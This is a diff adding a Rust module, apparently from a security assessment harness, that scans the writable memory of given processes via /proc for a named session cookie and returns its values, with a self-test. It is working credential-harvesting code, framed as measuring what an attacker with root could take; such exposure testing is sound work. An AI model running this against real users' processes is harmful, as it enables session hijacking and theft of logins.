@@ -1,0 +1,83 @@
+//! What somebody with root on the terminal could take out of a running session: the cookies in its memory.
+//!
+//! Duties: look, as an attacker would. Never: a way in that an attacker would not have.
+
+use std::collections::BTreeSet;
+use std::fs::{self, File};
+use std::os::unix::fs::FileExt;
+
+/// At most so many bytes are read at once.
+const CHUNK: usize = 4 << 20;
+/// Longest cookie that is looked for.
+const LONGEST: usize = 512;
+
+/// Every value the cookie of this name has in the memory of these processes, the longest first.
+#[must_use]
+pub fn cookies(pids: &[i32], name: &str) -> Vec<String> {
+    let needle = format!("{name}=");
+    let mut found = BTreeSet::new();
+    for pid in pids {
+        let Ok(memory) = File::open(format!("/proc/{pid}/mem")) else { continue };
+        for (begin, end) in writable(*pid) {
+            search(&memory, begin, end, needle.as_bytes(), &mut found);
+        }
+    }
+    let mut values: Vec<String> = found.into_iter().collect();
+    values.sort_by_key(|value| std::cmp::Reverse(value.len()));
+    values
+}
+
+/// The parts of a process' memory it may write to (proc(5), maps).
+fn writable(pid: i32) -> Vec<(u64, u64)> {
+    let maps = fs::read_to_string(format!("/proc/{pid}/maps")).unwrap_or_default();
+    let part = |line: &str| {
+        let (range, rest) = line.split_once(' ')?;
+        let (begin, end) = range.split_once('-')?;
+        let number = |text| u64::from_str_radix(text, 16).ok();
+        rest.starts_with("rw").then_some((number(begin)?, number(end)?))
+    };
+    maps.lines().filter_map(part).collect()
+}
+
+fn search(memory: &File, begin: u64, end: u64, needle: &[u8], found: &mut BTreeSet<String>) {
+    let mut buffer = vec![0; CHUNK + LONGEST];
+    let mut at = begin;
+    while at < end {
+        let want = usize::try_from(end - at).unwrap_or(usize::MAX).min(buffer.len());
+        // A part that went away meanwhile is none of ours.
+        let Ok(read @ 1..) = memory.read_at(&mut buffer[..want], at) else { return };
+        let bytes = &buffer[..read];
+        let mut from = 0;
+        while let Some(hit) = bytes[from..].windows(needle.len()).position(|window| window == needle) {
+            from += hit + needle.len();
+            let value: Vec<u8> = bytes[from..].iter().copied().take_while(|byte| is_of_cookie(*byte)).collect();
+            // Shorter ones are format strings and torn copies.
+            if (16..LONGEST).contains(&value.len()) {
+                found.insert(String::from_utf8_lossy(&value).into_owned());
+            }
+        }
+        at += (read.saturating_sub(LONGEST)).max(1) as u64;
+        if read < CHUNK {
+            return;
+        }
+    }
+}
+
+/// RFC 6265, section 4.1.1, less the quotes.
+const fn is_of_cookie(byte: u8) -> bool {
+    matches!(byte, b'!' | b'#'..=b'+' | b'-'..=b':' | b'<'..=b'[' | b']'..=b'~')
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_cookie_in_ones_own_memory_is_found() {
+        let name = ["thiefs", "test"].join("-");
+        let kept = format!("{name}={}; path=/", "0123456789abcdef".repeat(2));
+        let pid = i32::try_from(std::process::id()).unwrap();
+        let found = cookies(&[pid], &name);
+        assert!(found.contains(&"0123456789abcdef".repeat(2)), "{found:?} {}", kept.len());
+    }
+}
